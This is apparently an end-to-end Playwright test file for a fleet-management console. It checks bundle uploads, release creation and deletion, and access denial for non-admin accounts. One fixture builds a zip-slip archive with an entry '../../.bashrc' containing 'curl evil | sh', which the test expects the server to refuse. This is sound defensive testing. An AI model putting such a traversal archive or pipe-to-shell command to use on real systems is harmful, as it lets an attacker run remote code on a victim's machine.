import { rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tempDir } from '../apps/server/src/modules/broker/broker.test-support.js';
import { manifest, packAgentBundle, tarGz } from '../apps/server/src/modules/releases/bundle-archives.test-support.js';
import { admin, guest, user } from './support/accounts';
import { useConsoleSuite } from './support/console-suite';
import { screenshotPath } from './support/screenshots';

/**
 * Issue 31, Playwright: upload this checkout's agent bundle with the progress bar seen, refuse a
 * zip-slip archive with its message, create a release with it (changing a bundle's name reloads
 * its versions), see it on the releases page and delete it after its question; USER and guest get
 * the access-denied page.
 */

const TEST_TIMEOUT_MS = 120_000;
const suite = useConsoleSuite();
let files: string;
let agent200: string;
let agent210: string;
let plugin: string;
let slip: string;

async function uploadBundle(page: Page, file: string) {
  const [chooser] = await Promise.all([page.waitForEvent('filechooser'), page.getByRole('button', { name: 'Upload bundle' }).click()]);
  await chooser.setFiles(file);
}

const tableRows = (page: Page, testId: string) => page.getByTestId(testId).locator('tbody tr').evaluateAll((rows) => rows.map((r) => (r as HTMLElement).innerText.replace(/\s+/g, ' ').trim()));

beforeAll(() => {
  files = tempDir('fleetlink-releases-e2e-');
  agent200 = packAgentBundle('2.0.0', files);
  agent210 = packAgentBundle('2.1.0', files);
  plugin = path.join(files, 'fleetlink-plugin-0.3.0.tar.gz');
  writeFileSync(plugin, tarGz([manifest('fleetlink-plugin', '0.3.0'), { path: 'plugin/index.mjs', body: 'export {};' }]));
  slip = path.join(files, 'slip.tar.gz');
  writeFileSync(slip, tarGz([manifest('fleetlink-agent', '9.0.0'), { path: '../../.bashrc', body: 'curl evil | sh' }]));
}, TEST_TIMEOUT_MS);
afterAll(() => rmSync(files, { recursive: true, force: true }));

describe('agent bundles and releases', () => {
  it('uploads bundles with a progress bar, creates a release, and deletes it after asking', { timeout: TEST_TIMEOUT_MS }, async () => {
    const { page, pageErrors } = await suite.signedIn(admin, '/agent');
    await page.waitForURL(/\/agent\/bundles$/);
    await page.getByRole('link', { name: 'Bundles', exact: true }).waitFor();

    // Slow uploads (64 KB/s) so the ~300 KB bundle shows its progress.
    const cdp = await page.context().newCDPSession(page);
    await cdp.send('Network.enable');
    await cdp.send('Network.emulateNetworkConditions', { offline: false, latency: 0, downloadThroughput: -1, uploadThroughput: 64 * 1024 });
    await uploadBundle(page, agent200);
    const progress = page.getByTestId('bundle-upload-progress');
    await expect.poll(() => progress.innerText()).toMatch(/Uploading fleetlink-agent-2\.0\.0\.tar\.gz: [1-9]\d?% of \d/);
    await page.screenshot({ path: screenshotPath('bundle-upload-progress.png') });
    await progress.waitFor({ state: 'detached', timeout: 30_000 });
    await cdp.send('Network.emulateNetworkConditions', { offline: false, latency: 0, downloadThroughput: -1, uploadThroughput: -1 });
    await expect.poll(() => tableRows(page, 'bundle-table')).toEqual(['fleetlink-agent 2.0.0']);
    expect(new URL(page.url()).pathname).toBe('/agent/bundles');

    await uploadBundle(page, agent210);
    await expect.poll(() => tableRows(page, 'bundle-table')).toEqual(['fleetlink-agent 2.1.0', 'fleetlink-agent 2.0.0']);
    await uploadBundle(page, plugin);
    await expect.poll(() => tableRows(page, 'bundle-table')).toEqual(['fleetlink-agent 2.1.0', 'fleetlink-agent 2.0.0', 'fleetlink-plugin 0.3.0']);
    // A zip-slip archive: refused with its message, and nothing is listed.
    await uploadBundle(page, slip);
    await page.getByRole('alert').filter({ hasText: 'The archive\'s entry "../../.bashrc" points outside the archive.' }).waitFor();
    expect(await tableRows(page, 'bundle-table')).toHaveLength(3);

    // Releases: the form is reached by its link, without the tabs.
    await page.getByRole('link', { name: 'Releases', exact: true }).click();
    await page.waitForURL(/\/agent\/releases$/);
    await page.getByText('No releases yet.').waitFor();
    await page.getByRole('link', { name: 'Create a new release' }).click();
    await page.waitForURL(/\/agent\/releases\/new$/);
    await page.getByText('Releases are sorted by version, and the latest version is deployed to devices.', { exact: false }).waitFor();
    expect(await page.getByRole('link', { name: 'Bundles', exact: true }).count()).toBe(0);
    expect(await page.getByRole('combobox', { name: 'Branch' }).inputValue()).toBe('PRODUCTION');

    // Submitting empty: the spec's messages under each field.
    await page.getByRole('button', { name: 'Create release' }).click();
    await page.getByText('Version is required.').first().waitFor();
    const row = page.getByTestId('release-bundle-row').first();
    await row.getByText('Name is required.').waitFor();

    await page.getByRole('textbox', { name: 'Version' }).fill('2.1.0');
    await page.getByRole('textbox', { name: 'Notes' }).fill('Faster tunnels');
    const bundleName = row.getByRole('combobox', { name: 'Name' });
    const bundleVersion = row.getByRole('combobox', { name: 'Version' });
    await bundleName.click();
    await page.getByRole('option', { name: 'fleetlink-plugin' }).click();
    await bundleVersion.click();
    const options = () => page.getByRole('option').evaluateAll((els) => els.map((e) => (e as HTMLElement).innerText.trim()));
    await expect.poll(options).toEqual(['0.3.0']);
    await page.getByRole('option', { name: '0.3.0' }).click();
    expect(await bundleVersion.inputValue()).toBe('0.3.0');
    // Another name: the version is reset, and that bundle's versions are loaded.
    await bundleName.click();
    await page.getByRole('option', { name: 'fleetlink-agent' }).click();
    await expect.poll(() => bundleVersion.inputValue()).toBe('');
    await bundleVersion.click();
    await expect.poll(options).toEqual(['2.1.0', '2.0.0']);
    await page.getByRole('option', { name: '2.1.0' }).click();
    // A second row, added then removed.
    await page.getByRole('button', { name: 'Add bundle' }).click();
    expect(await page.getByTestId('release-bundle-row').count()).toBe(2);
    await page.getByTestId('release-bundle-row').nth(1).getByRole('button', { name: 'Remove bundle' }).click();
    expect(await page.getByTestId('release-bundle-row').count()).toBe(1);
    await page.screenshot({ path: screenshotPath('release-form.png'), fullPage: true });
    await page.getByRole('button', { name: 'Create release' }).click();

    await page.waitForURL(/\/agent\/releases$/);
    await expect.poll(() => tableRows(page, 'release-table')).toEqual(['PRODUCTION 2.1.0 fleetlink-agent 2.1.0 none All at once Rollout… Roll back this release']);
    await page.screenshot({ path: screenshotPath('releases.png'), fullPage: true });

    await page.getByRole('button', { name: 'Delete release PRODUCTION 2.1.0' }).click();
    expect(await page.getByTestId('delete-release-question').innerText()).toBe('Delete release PRODUCTION 2.1.0?');
    await page.getByRole('button', { name: 'Yes' }).click();
    await page.getByText('No releases yet.').waitFor();
    expect(pageErrors).toEqual([]);
  });

  it.each([user, guest])(
    'shows $email the access-denied page on /agent',
    async (account) => {
      for (const where of ['/agent', '/agent/releases/new']) {
        const { page } = await suite.signedIn(account, where);
        await page.getByTestId('access-denied').waitFor();
        expect(new URL(page.url()).pathname).toBe(where);
        expect(await page.getByTestId('bundle-table').count()).toBe(0);
      }
    },
    TEST_TIMEOUT_MS,
  );
});
